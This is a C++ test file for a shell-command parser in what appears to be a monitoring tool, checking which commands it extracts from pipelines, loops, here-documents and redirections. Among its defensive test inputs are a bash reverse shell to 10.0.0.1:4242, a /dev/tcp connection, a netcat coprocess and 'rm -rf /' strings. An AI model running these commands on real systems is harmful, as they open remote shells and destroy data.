// Lists, pipelines, groups, loops: which commands a text has.

#include "tests/monitor/events/shell/cases.h"

namespace candor::monitor::testing {
namespace {

TEST_P(ShellCases, GiveExactlyTheirCommands) {
  const Reading reading(GetParam().text);
  EXPECT_EQ(commands_of(reading.script), GetParam().commands);
  EXPECT_FALSE(reading.script.truncated);
}

const ShellCase kLists[] = {
    {"Empty", "", {}},
    {"OnlyBlanks", " \n\t ", {}},
    {"OnlyAComment", "# rm -rf /", {}},
    {"One", "ls", {"ls"}},
    {"Words", "tar  -x\tf", {"tar -x f"}},
    {"Pipeline", "cat a | sort -u | head -3", {"cat a", "sort -u", "head -3"}},
    {"PipelineWithErrors", "make |& tee log", {"make", "tee log"}},
    {"NoBlanksAtOperators", "a;b&&c||d|e&f", {"a", "b", "c", "d", "e", "f"}},
    {"Lines", "a\nb\r\nc", {"a", "b", "c"}},
    {"CommentAtTheEnd", "a # | b\nc", {"a", "c"}},
    {"HashInsideAWord", "echo a#b", {"echo a#b"}},
    {"ContinuedLine", "docker build \\\n  -t x \\\n  .", {"docker build -t x ."}},
    {"ContinuedLineWithReturns", "a \\\r\n  b", {"a b"}},
    {"Subshell", "(cd x; make) && ls", {"cd x", "make", "ls"}},
    {"NestedSubshells", "( (a); (b) )", {"a", "b"}},
    {"BraceGroup", "{ a; b; } > out", {"a", "b", ">out"}},
    {"Background", "server & client", {"server", "client"}},
    {"Negated", "! grep -q x f", {"grep -q x f"}},
    {"TimeIsNoProgram", "time -p make", {"make"}},
    {"If", "if test -f a; then b; elif c; then d; else e; fi", {"test -f a", "b", "c", "d", "e"}},
    {"While", "while read -r l; do echo x; done < in", {"read -r l", "echo x", "<in"}},
    {"Until", "until ping -c1 h; do sleep 1; done", {"ping -c1 h", "sleep 1"}},
    {"ForOverOneWord", "for f in a; do cp $f b; done", {"cp a b"}},
    {"ForStandsForEachWord", "for f in a b; do rm /x/$f.txt; done", {"rm /x/a.txt /x/b.txt"}},
    {"ForOverAPattern", "for f in *.log; do gzip \"$f\"; done", {"gzip *.log"}},
    {"ForWithoutWords", "for f; do a $f; done", {"a $f"}},
    {"ForOverWhatACommandPrints", "for f in $(ls); do rm $f; done", {"ls", "rm $f"}},
    {"ArithmeticFor", "for ((i=0; i<3; i++)); do a; done", {"a"}},
    {"Select", "select x in a b; do c; done", {"c"}},
    {"Case", "case $1 in start|run) a;; stop) b ;; *) c; esac; d", {"a", "b", "c", "d"}},
    {"CaseOverLines",
     "case $x in\n  (a) one ;;\n  b)\n two\n;;\nesac\nlast",
     {"one", "two", "last"}},
    {"CaseInASubstitution",
     "echo $(case x in x) a;; esac)",
     {"a", "echo <$(case x in x) a;; esac)>"}},
    {"Function", "f() { rm $1; }; f x", {"rm $1", "f x"}},
    {"FunctionWithKeyword", "function f { a; }\nf", {"a", "f"}},
    {"FunctionOverLines", "build()\n{\n  make\n}\nbuild", {"make", "build"}},
    {"Test", "[ -f a ] && b", {"[ -f a ]", "b"}},
    {"DoubleTest", "[[ -f a && $b == c* || 1 < 2 ]] && d", {"d"}},
    {"DoubleTestOverLines", "if [[ a == a &&\n b == b ]]; then c; fi", {"c"}},
    {"DoubleTestThatNeverCloses", "[[ a\nrm b", {"rm b"}},
    {"CommandInADoubleTest", "[[ $(id -u) == 0 ]] && a", {"id -u", "a"}},
    {"Arithmetic", "((x = 1 + 2)); a", {"a"}},
    {"CommandInArithmetic",
     "echo $((1 + $(wc -l < f)))",
     {"wc -l <f", "echo <$((1 + $(wc -l < f)))>"}},
    {"KeywordsAreWordsElsewhere", "echo if then { }", {"echo if then { }"}},
    {"StrayClosings", ") a } ) b", {"a }", "b"}},
    {"UnclosedQuote", "echo 'a; b", {"echo <a; b>"}},
    {"UnclosedGroup", "(a; b", {"a", "b"}},
    {"UnclosedSubstitution", "echo $(a", {"a", "echo $(a"}},
    {"Coprocess", "coproc nc h 1", {"nc h 1"}},
};
INSTANTIATE_TEST_SUITE_P(Lists, ShellCases, ::testing::ValuesIn(kLists), case_name);

const ShellCase kRedirections[] = {
    {"Write", "a > f", {"a >f"}},
    {"WriteWithoutBlank", "a >f 2>e", {"a >f >e"}},
    {"Append", "a >> f", {"a >>f"}},
    {"Read", "a < f", {"a <f"}},
    {"Before", "> f a", {"a >f"}},
    {"Alone", ": > /var/log/x; > y", {": >/var/log/x", ">y"}},
    {"Clobber", "a >| f", {"a >f"}},
    {"ReadAndWrite", "a <> f", {"a >f"}},
    {"Both", "a &> f; b &>> g; c >& h", {"a >f", "b >>g", "c >h"}},
    {"Descriptors", "a 2>&1 >&2 3>&- <&0", {"a"}},
    {"Quoted", "a > 'my file'", {"a >my file"}},
    {"NumberThatIsNoDescriptor", "echo 12 > f", {"echo 12 >f"}},
    {"Device", "exec 5<>/dev/tcp/10.0.0.1/443", {"exec >/dev/tcp/10.0.0.1/443"}},
    {"ReverseShell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", {"bash -i >/dev/tcp/10.0.0.1/4242"}},
    {"ProcessSubstitutions",
     "diff <(sort a) <(sort b)",
     {"sort a", "sort b", "diff <<(sort a)> <<(sort b)>"}},
    {"IntoAProcess", "a > >(tee log)", {"tee log", "a >>(tee log)"}},
    {"FromAProcess", "while read x; do b; done < <(c)", {"read x", "b", "c", "<<(c)"}},
    {"HereDocument", "cat <<EOF\nrm x\nEOF\nls", {"cat", "ls"}},
    {"HereDocumentAndTheRestOfItsLine",
     "cat <<A | tr a b && c\nx\nA\nd",
     {"cat", "tr a b", "c", "d"}},
    {"TwoHereDocuments", "a <<X; b <<Y\n1\nX\n2\nY\nc", {"a", "b", "c"}},
    {"HereDocumentWithTabs", "a <<-E\n\tx\n\tE\nb", {"a", "b"}},
    {"HereDocumentThatNeverEnds", "a <<E\nrm x", {"a"}},
    {"HereDocumentRunsItsCommands", "cat <<E\n$(rm x) `rm y`\nE", {"rm x", "rm y", "cat"}},
    {"QuotedHereDocumentRunsNothing", "cat <<'E'\n$(rm x)\nE", {"cat"}},
    {"HereDocumentIntoAFile", "cat > f <<E\nx\nE", {"cat >f"}},
    {"HereString", "wc <<< \"a b\"", {"wc"}},
};
INSTANTIATE_TEST_SUITE_P(Redirections, ShellCases, ::testing::ValuesIn(kRedirections), case_name);

}  // namespace
}  // namespace candor::monitor::testing
